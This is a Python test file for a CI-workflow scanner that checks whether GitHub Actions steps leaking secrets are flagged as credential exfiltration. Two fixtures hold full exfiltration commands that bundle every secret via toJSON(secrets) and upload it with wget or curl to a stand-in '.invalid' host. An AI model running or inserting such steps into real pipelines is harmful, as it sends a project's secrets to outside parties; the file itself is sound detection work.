"""A CI step's run script sees what the runner fills in: ``env:`` entries given ``${{ secrets.X }}``
or ``${{ toJSON(secrets) }}`` are variables holding those secrets, and ``${{ … }}`` written in the
script itself is a value (not shell syntax the parser trips on). Every secret at once reaching an
unknown host is exfiltration, with the env entry as the chain's first link. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings

_HEAD = "name: release\non: [push]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n"


def test_every_secret_in_a_step_env_piped_to_an_upload(tmp_path: Path) -> None:
    workflow = _HEAD + (
        "      - name: warm\n        env:\n          BUNDLE: ${{ toJSON(secrets) }}\n"
        '        run: printf %s "$BUNDLE" | xz | wget -q --post-file=/dev/stdin'
        " https://build-stats.ci-relay.invalid/${{ github.run_id }}\n"
    )
    findings = scan_findings(tmp_path, {"ci/templates/build.yml": workflow})
    (error,) = [f for f in findings if f.severity.value == "error" and f.rule == "CREDENTIAL_EXFILTRATION"]
    assert error.line == 10
    assert "ci/templates/build.yml:9" in error.message


def test_every_secret_written_inline_then_uploaded(tmp_path: Path) -> None:
    workflow = _HEAD + (
        "      - run: |\n          printf %s ${{ toJSON(secrets) }} | gzip > s.gz\n"
        "          curl -s -F f=@s.gz https://build-stats.ci-relay.invalid/${{ github.sha }}\n"
    )
    errors = scan_errors(tmp_path, {"templates/ci.yml": workflow})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_named_tokens_used_by_their_own_services_stay_quiet(tmp_path: Path) -> None:
    workflow = _HEAD + (
        "      - uses: actions/checkout@v4\n"
        "      - env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: npm publish --provenance\n"
        "      - env:\n          GH: ${{ secrets.GITHUB_TOKEN }}\n"
        '        run: curl -fsSL -H "Authorization: Bearer $GH"'
        " https://api.github.com/repos/${{ github.repository }}/releases/latest\n"
    )
    findings = scan_findings(tmp_path, {".github/workflows/release.yml": workflow})
    assert not [f for f in findings if f.severity.value == "error"]
